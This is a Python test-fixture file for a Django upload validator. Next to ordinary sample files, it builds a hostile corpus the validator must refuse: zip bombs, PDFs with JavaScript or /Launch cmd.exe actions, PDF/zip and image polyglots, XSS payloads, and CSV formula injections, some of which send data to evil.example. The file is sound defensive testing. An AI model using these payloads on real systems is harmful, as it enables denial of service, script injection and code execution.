"""Small, real files of every type the evidence library meets, built in memory."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def _ooxml(part: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(part, "<x/>")
    return buffer.getvalue()


def _odf(mimetype: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<x/>")
    return buffer.getvalue()


def _image(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "teal").save(buffer, fmt)
    return buffer.getvalue()


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")
    return buffer.getvalue()


# name -> (bytes, the type libmagic must detect)
ALLOWED = {
    "minutes.pdf": (PDF, "application/pdf"),
    "policy.docx": (
        _ooxml("word/document.xml"),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "rota.xlsx": (_ooxml("xl/workbook.xml"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "talk.pptx": (
        _ooxml("ppt/presentation.xml"),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "notes.odt": (_odf("application/vnd.oasis.opendocument.text"), "application/vnd.oasis.opendocument.text"),
    "scores.ods": (
        _odf("application/vnd.oasis.opendocument.spreadsheet"),
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
    "garden.png": (_image("PNG"), "image/png"),
    "mural.jpg": (_image("JPEG"), "image/jpeg"),
    "minutes.txt": (b"Community meeting\nEveryone agreed the new rota.\n", "text/plain"),
    "survey.csv": (b"value,score\nBEL,4\nBOU,3\nCOM,5\n", "text/csv"),
}

# name -> (bytes, a phrase the refusal must contain)
REFUSED = {
    "report.pdf": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 400, "a Windows program"),
    "page.html": (b"<!DOCTYPE html><html><head><title>x</title></head><body>hi</body></html>", "a web page"),
    "drawing.svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>', "an SVG drawing"),
    "bundle.zip": (_zip(), "a zip archive"),
    "empty.pdf": (b"", "The file is empty"),
}


def upload(name: str, content: bytes | None = None) -> SimpleUploadedFile:
    if content is None:
        content = ALLOWED[name][0]
    return SimpleUploadedFile(name, content)


# The hostile corpus: files that were stored although they should not have been, or that cost the server seconds to
# check. Built here, byte by byte, so no binary blob is committed.

OOXML_TYPES = {
    ".docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    ".xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    ".pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}
ODF_TYPES = {
    ".odt": "application/vnd.oasis.opendocument.text",
    ".ods": "application/vnd.oasis.opendocument.spreadsheet",
}


def office(extension: str, *, main_type: str | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """A small, well-formed Office or OpenDocument file; `main_type` overrides the main part's content type."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if extension in ODF_TYPES:
            archive.writestr(zipfile.ZipInfo("mimetype"), ODF_TYPES[extension], compress_type=zipfile.ZIP_STORED)
            archive.writestr("content.xml", "<office:document-content/>")
        else:
            part, content_type = OOXML_TYPES[extension]
            archive.writestr(
                "[Content_Types].xml",
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                f'<Override PartName="/{part}" ContentType="{main_type or content_type}"/></Types>',
            )
            archive.writestr("_rels/.rels", "<Relationships/>")
            archive.writestr(part, "<x/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(extension: str, *, entry_bytes: int = 64 * 1024 * 1024, copies: int = 32) -> bytes:
    """A valid-looking document whose central directory lists one highly compressed entry `copies` times (the
    entries overlap): a few tens of KB that unpack to `entry_bytes * copies`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        if extension in ODF_TYPES:
            archive.writestr(zipfile.ZipInfo("mimetype"), ODF_TYPES[extension], compress_type=zipfile.ZIP_STORED)
            body = "content.xml"
        else:
            part, content_type = OOXML_TYPES[extension]
            archive.writestr(
                "[Content_Types].xml",
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>',
            )
            archive.writestr("_rels/.rels", "<Relationships/>")
            body = part
        with archive.open(body, "w", force_zip64=True) as entry:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(entry_bytes // len(chunk)):
                entry.write(chunk)
        bomb = archive.getinfo(body)
        for _ in range(1, copies):
            twin = zipfile.ZipInfo(body, date_time=bomb.date_time)
            twin.compress_type, twin.CRC = bomb.compress_type, bomb.CRC
            twin.compress_size, twin.file_size, twin.header_offset = (
                bomb.compress_size,
                bomb.file_size,
                bomb.header_offset,
            )
            twin.extract_version, twin.create_version, twin.flag_bits = (
                bomb.extract_version,
                bomb.create_version,
                bomb.flag_bits,
            )
            twin.extra = bomb.extra
            archive.filelist.append(twin)
    return buffer.getvalue()


def lying_bomb(extension: str = ".docx", *, real_bytes: int = 64 * 1024 * 1024) -> bytes:
    """One entry that declares a size of 1 KB but inflates to `real_bytes`: declared sizes can lie."""
    data = bytearray(zip_bomb(extension, entry_bytes=real_bytes, copies=1))
    end = data.rfind(b"PK\x05\x06")
    offset = int.from_bytes(data[end + 16 : end + 20], "little")
    if offset == 0xFFFFFFFF:
        locator = data.rfind(b"PK\x06\x07")
        zip64_end = int.from_bytes(data[locator + 8 : locator + 16], "little")
        offset = int.from_bytes(data[zip64_end + 48 : zip64_end + 56], "little")
    # Rewrite the last central directory entry (the big part) to claim 1 KB, with no zip64 extra left to contradict it.
    last = data.rfind(b"PK\x01\x02", offset, end)
    data[last + 20 : last + 24] = (1024).to_bytes(4, "little")
    data[last + 24 : last + 28] = (1024).to_bytes(4, "little")
    return bytes(data)


def many_entries(extension: str = ".xlsx", entries: int = 60_000) -> bytes:
    """A document whose central directory lists tens of thousands of empty parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr(OOXML_TYPES[extension][0], "<x/>")
        for number in range(entries):
            archive.writestr(f"xl/p{number}.xml", b"")
    return buffer.getvalue()


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """A small PDF with extra objects; `tail` is appended after %%EOF."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    for number, obj in enumerate(objects, start=3):
        body += b"%d 0 obj" % number + obj + b"endobj\n"
    return body + b"trailer<</Root 1 0 R>>\n%%EOF\n" + tail


def pdf_with_catalog(entry: bytes) -> bytes:
    return PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + entry)


def pdf_object_stream(hidden: bytes) -> bytes:
    """A PDF whose /OpenAction sits inside a compressed object stream, where a plain scan does not see it."""
    import zlib

    packed = zlib.compress(b"3 0 " + hidden)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed
    return pdf(stream + b"\nendstream")


def jpeg_with(tail: bytes) -> bytes:
    return _image("JPEG") + tail


def png_with(tail: bytes) -> bytes:
    return _image("PNG") + tail


def png_with_text(text: bytes) -> bytes:
    """HTML inside a PNG text chunk: no data after IEND, but markup a browser sniffing the file would run."""
    import struct
    import zlib

    image = _image("PNG")
    chunk = b"tEXt" + b"Comment\x00" + text
    packed = struct.pack(">I", len(text) + 8) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return image[:33] + packed + image[33:]


HTML_TAIL = b"<html><body><script>alert(document.cookie)</script></body></html>"


def zip_with_comment(comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.exe", b"MZ" + b"\x00" * 100)
        archive.comment = comment
    return buffer.getvalue()


def pdf_ending_in_zip() -> bytes:
    """A zip inside the PDF's last stream, whose comment is the rest of the PDF: zip readers find its end record
    there, and the stream hides the zip's headers from a scan outside streams."""
    rest = b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    head = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    archive = zip_with_comment(rest)[: -len(rest)]
    return head + b"3 0 obj<</Length %d>>stream\n" % len(archive) + archive + rest


# name -> bytes; every one must be refused (the uploader told why) and none stored.
HOSTILE = {
    "bomb.docx": lambda: zip_bomb(".docx"),
    "bomb.xlsx": lambda: zip_bomb(".xlsx"),
    "bomb.pptx": lambda: zip_bomb(".pptx"),
    "bomb.odt": lambda: zip_bomb(".odt"),
    "bomb.ods": lambda: zip_bomb(".ods"),
    "lying-bomb.docx": lambda: lying_bomb(".docx"),
    "many-parts.xlsx": lambda: many_entries(".xlsx"),
    "javascript.pdf": lambda: pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
    "js-action.pdf": lambda: pdf(b"<</S/Foo/JS 4 0 R>>"),
    "open-action.pdf": lambda: pdf_with_catalog(b"/OpenAction 3 0 R"),
    "launch.pdf": lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "page-action.pdf": lambda: pdf(b"<</Type/Page/AA<</O 4 0 R>>>>"),
    "escaped-name.pdf": lambda: pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "object-stream.pdf": lambda: pdf_object_stream(b"<</OpenAction<</S/JavaScript/JS(x)>>>>"),
    "embedded-file.pdf": lambda: pdf(b"<</Type/EmbeddedFile/Length 3>>stream\nMZ!\nendstream\n"),
    "pdf-zip.pdf": lambda: PDF + _zip(),
    "pdf-zip-comment-eof.pdf": lambda: PDF + zip_with_comment(b"\n%%EOF\n"),
    "pdf-zip-in-last-stream.pdf": pdf_ending_in_zip,
    "jpeg-soi-zip.jpg": lambda: jpeg_with(b"\xff\xd8" + zip_with_comment()),
    "jpeg-jpeg-html.jpg": lambda: jpeg_with(_image("JPEG") + HTML_TAIL.replace(b"<", b"(")),
    "macro-type.docx": lambda: office(".docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "vba-project.docx": lambda: office(".docx", extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
    "vba-project.xlsx": lambda: office(".xlsx", extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
    "basic-macro.odt": lambda: office(".odt", extra={"Basic/Standard/Module1.xml": b"<script:module/>"}),
    "jpeg-html.jpg": lambda: jpeg_with(HTML_TAIL),
    "png-html.png": lambda: png_with(HTML_TAIL),
    "png-text-html.png": lambda: png_with_text(HTML_TAIL),
    "script.txt": lambda: b"Minutes of the meeting.\n<script>alert(1)</script>\n",
    "onerror.txt": lambda: b"Minutes\n<img src=x onerror=alert(1)>\n",
    "javascript-link.txt": lambda: b"Read more at javascript:alert(document.domain)\n",
    "style.txt": lambda: b"Notes\n<style>body{background:url(//evil.example/x)}</style>\n",
    "form.txt": lambda: b'Notes\n<form action="//evil.example"><input name=password></form>\n',
    "iframe.txt": lambda: b'Notes\n<iframe src="//evil.example"></iframe>\n',
    "binary-tail.txt": lambda: b"Plain minutes of the meeting.\n" * 40_000 + b"\x01\x02\x1b[31m\x7f\x08 MZ\x90",
    "nul-tail.txt": lambda: b"Plain minutes of the meeting.\n" * 40_000 + b"\x00\x00MZ\x90\x00",
    "formula.csv": lambda: b'name,score\nBEL,4\nCOM,=HYPERLINK("http://evil.example?"&A1,"Click")\n',
    "plus.csv": lambda: b"name,score\nBEL,4\nCOM,+cmd|' /C calc'!A0\n",
    "minus.csv": lambda: b"name,score\nBEL,4\nCOM,-2+3+cmd|' /C calc'!A0\n",
    "at.csv": lambda: b"name,score\nBEL,4\nCOM,@SUM(1+1)*cmd|' /C calc'!A0\n",
    "tab-formula.csv": lambda: b'name,score\nBEL,4\nCOM,"\t=1+1"\n',
    "quoted-formula.csv": lambda: b'name,score\nBEL,4\n"COM","=1+2"\n',
    "spaced-tag.txt": lambda: b"Notes\n<" + b" \t\n" * 10_000 + b"/ script>",
    "spaced-scheme.txt": lambda: b"Notes: JavaScript" + b" " * 10_000 + b":alert(1)\n",
    "tabbed-formula.csv": lambda: b"name,score\nBEL,4\nCOM," + b"\t " * 10_000 + b'"=1+2"\n',
    "tab-separated-formula.csv": lambda: b"name\tscore\nBEL\t4\nCOM\t@SUM(1+1)\n",
    "many-streams.pdf": lambda: b"%PDF-1.4\n" + b">>stream\nendstream" * 110_000 + b"\n%%EOF\n",
}

# Files that look odd but are fine, and must still be accepted.
BENIGN = {
    "negative.csv": b"name,change\nBEL,-5\nCOM,-3.25\nBOU,+2\nRES,1e-3\n",
    "utf16.txt": "Community meeting – everyone agreed the rota.\n".encode("utf-16"),
    "utf8-bom.txt": "\ufeffCommunity meeting – everyone agreed the rota.\n".encode(),
    "cp1252.txt": "Café meeting – everyone agreed.\n".encode("cp1252"),
    "maths.txt": b"The score went from 3 < 4 and 5 > 2; see form 12 and the style guide.\n",
    "phone-photo.jpg": _image("JPEG") * 3,
    "tab-separated.tsv.csv": b"name\tchange\nBEL\t-5\nCOM\t \t+2\n",
    "quoted-numbers.csv": b'name,change\n"BEL","-5"\n"COM", " -3.25%"\n',
    "escaped-name.pdf": pdf(b"<</Type/Font/BaseFont/Open#20Sans/Name/J#53X>>"),
    "javascript-word.txt": b"We use JavaScript and data: the text/html report is attached.\n",
}


def _streams_pdf(size: int) -> bytes:
    return b"%PDF-1.4\n" + b">>stream\nendstream" * (size // 18) + b"\n%%EOF\n"


# The worst input found for each check, built to about `size` bytes, with the largest size it is timed at and what
# must happen to it: each must cost CPU in step with its size (the first versions were quadratic or cubic on these).
SLOW = {
    "spaces.txt": (lambda size: b"Minutes\n<" + b" " * size + b"x\n", 20_000_000, "stored"),
    "tabs.txt": (lambda size: b"Minutes\n<" + b"\t" * size + b"x\n", 20_000_000, "stored"),
    "newlines.txt": (lambda size: b"Minutes\n<" + b"\n" * size + b"x\n", 20_000_000, "stored"),
    "brackets.txt": (lambda size: b"Minutes " + b"<" * size, 20_000_000, "stored"),
    "slashes.txt": (lambda size: b"Minutes " + b"< /q" * (size // 4), 20_000_000, "stored"),
    "schemes.txt": (lambda size: b"Minutes " + b"xjavascript :" * (size // 13), 20_000_000, "stored"),
    "tabs.csv": (lambda size: b"a,b\n1," + b"\t" * size + b"x\n", 20_000_000, "stored"),
    "tabs-and-spaces.csv": (lambda size: b"a,b\n1," + b"\t " * (size // 2) + b"x\n", 20_000_000, "stored"),
    "negative.csv": (lambda size: b"a,b\n" + b"-1,-2\n" * (size // 6), 20_000_000, "stored"),
    "quotes.csv": (lambda size: b"a,b\n1," + b'"' * size + b"\n", 20_000_000, "stored"),
    # Just under the 100,000 streams a PDF may hold: the walk looked back to the file's start for every stream.
    "streams.pdf": (_streams_pdf, 1_700_000, "stored"),
    "too-many-streams.pdf": (_streams_pdf, 20_000_000, "far more complex inside"),
    "escapes.pdf": (lambda size: b"%PDF-1.4\n" + b"/#4a#61" * (size // 7) + b"\n%%EOF\n", 20_000_000, "stored"),
    "fill-bytes.jpg": (lambda size: _image("JPEG")[:2] + b"\xff" * size, 20_000_000, "damaged"),
    "markers.jpg": (lambda size: _image("JPEG")[:2] + b"\xff\xe1\x00\x02" * (size // 4), 20_000_000, "damaged"),
    "many-pictures.jpg": (lambda size: _image("JPEG") * (size // 640), 20_000_000, "hidden"),
}


def big_docx(size: int = 5 * 1024 * 1024) -> bytes:
    """A normal Word document of about `size` bytes: text parts plus photos that do not compress."""
    import random

    noise = random.Random(12)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        part, content_type = OOXML_TYPES[".docx"]
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>',
        )
        archive.writestr("_rels/.rels", "<Relationships/>")
        words = " ".join(noise.choice(["care", "team", "meeting", "value", "people", "rota"]) for _ in range(400_000))
        archive.writestr(part, f"<w:document><w:body>{words}</w:body></w:document>")
        for number in range(4):
            archive.writestr(f"word/media/image{number}.jpeg", noise.randbytes(size // 5))
    return buffer.getvalue()


def big_pdf(size: int = 5 * 1024 * 1024) -> bytes:
    """A normal PDF of about `size` bytes: one page with a large compressed image stream."""
    import random

    noise = random.Random(7).randbytes(size)
    image = b"<</Type/XObject/Subtype/Image/Width 1000/Height 1000/Filter/DCTDecode/Length %d>>stream\n" % len(noise)
    return pdf(b"<</Type/Page/Parent 2 0 R/Resources<</XObject<</Im1 4 0 R>>>>>>", image + noise + b"\nendstream\n")
